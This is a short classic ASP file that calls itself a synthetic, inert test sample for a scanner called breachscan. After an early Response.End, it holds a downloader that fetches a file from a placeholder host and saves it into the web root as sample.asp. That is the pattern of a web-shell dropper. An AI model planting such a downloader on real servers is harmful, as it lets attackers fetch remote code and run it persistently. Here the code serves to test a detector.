<%
' synthetic test sample for breachscan: XMLHTTP download saved as a server script. Inert: Response.End first.
Response.End
Set x = CreateObject("Microsoft.XMLHTTP")
x.Open "GET", "http://example.invalid/sample.txt", False
x.Send
Set st = CreateObject("ADODB.Stream")
st.Type = 1 : st.Open : st.Write x.responseBody
st.SaveToFile Server.MapPath("sample.asp"), 2
%>
